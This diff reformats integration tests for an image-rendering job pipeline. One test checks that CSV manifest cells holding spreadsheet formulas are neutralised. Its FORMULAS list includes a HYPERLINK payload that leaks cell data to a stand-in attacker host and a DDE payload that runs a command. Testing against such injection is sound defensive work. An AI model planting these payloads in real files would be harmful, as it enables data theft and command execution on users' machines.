@@ -35,8 +35,7 @@ pytestmark = pytest.mark.integration
 
 def test_manifest_in_three_formats_and_a_contact_sheet(tmp_path: Path, redis_server: RedisServerProcess) -> None:
     env = base_env(tmp_path, redis_server.url, str(tmp_path / "store"))
-    lines = [json.dumps({"prompt": f"a fox, take {i}", **({"id": "hero", "seed": 7} if i == 2 else {})})
-             for i in range(6)]
+    lines = [json.dumps({"prompt": f"a fox, take {i}", **({"id": "hero", "seed": 7} if i == 2 else {})}) for i in range(6)]
     (tmp_path / "p.jsonl").write_text("\n".join(lines) + "\n")
     worker = WorkerProc(env, tmp_path / "worker.log")
     try:
@@ -110,8 +109,14 @@ def test_shard_attempts_come_from_the_embedded_server_and_are_empty_when_redis_f
 def test_a_manifest_of_a_hundred_thousand_prompts_streams(tmp_path: Path) -> None:
     store = LocalStore(tmp_path / "store")
     n = 100_000
-    job = JobSpec(job="j-big", params=RenderParams(model="tiny"), total=n, shard_size=64, batch_size=4,
-                  prompts_key=spec.source_key("j-big", "txt", False))
+    job = JobSpec(
+        job="j-big",
+        params=RenderParams(model="tiny"),
+        total=n,
+        shard_size=64,
+        batch_size=4,
+        prompts_key=spec.source_key("j-big", "txt", False),
+    )
     source = tmp_path / "p.txt"
     source.write_text("".join(f"prompt number {i}, in a long and winding sentence\n" for i in range(n)))
     store.put_file(job.prompts_key, source)
@@ -136,8 +141,14 @@ def test_a_manifest_lists_the_jobs_images_once(tmp_path: Path) -> None:
             return super().list(prefix)
 
     store = CountingStore(tmp_path / "store")
-    job = JobSpec(job="j-few", params=RenderParams(model="tiny"), total=3, shard_size=2, batch_size=2,
-                  prompts_key=spec.source_key("j-few", "txt", False))
+    job = JobSpec(
+        job="j-few",
+        params=RenderParams(model="tiny"),
+        total=3,
+        shard_size=2,
+        batch_size=2,
+        prompts_key=spec.source_key("j-few", "txt", False),
+    )
     source = tmp_path / "p.txt"
     source.write_text("a\nb\nc\n")
     store.put_file(job.prompts_key, source)
@@ -148,16 +159,29 @@ def test_a_manifest_lists_the_jobs_images_once(tmp_path: Path) -> None:
     assert listed.count(spec.images_prefix(job.job)) == 1, listed
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def test_a_csv_manifest_cell_that_a_spreadsheet_would_run_as_a_formula_opens_as_text(tmp_path: Path) -> None:
     store = LocalStore(tmp_path / "store")
     lines = [json.dumps({"prompt": text, "negative_prompt": text}) for text in FORMULAS]
     lines.append(json.dumps({"prompt": "a fox = a dog - a cat", "negative_prompt": "'quoted' already"}))
-    job = JobSpec(job="j-csv", params=RenderParams(model="tiny"), total=len(lines), shard_size=4, batch_size=2,
-                  prompts_key=spec.source_key("j-csv", "jsonl", False))
+    job = JobSpec(
+        job="j-csv",
+        params=RenderParams(model="tiny"),
+        total=len(lines),
+        shard_size=4,
+        batch_size=2,
+        prompts_key=spec.source_key("j-csv", "jsonl", False),
+    )
     source = tmp_path / "p.jsonl"
     source.write_text("\n".join(lines) + "\n")
     store.put_file(job.prompts_key, source)
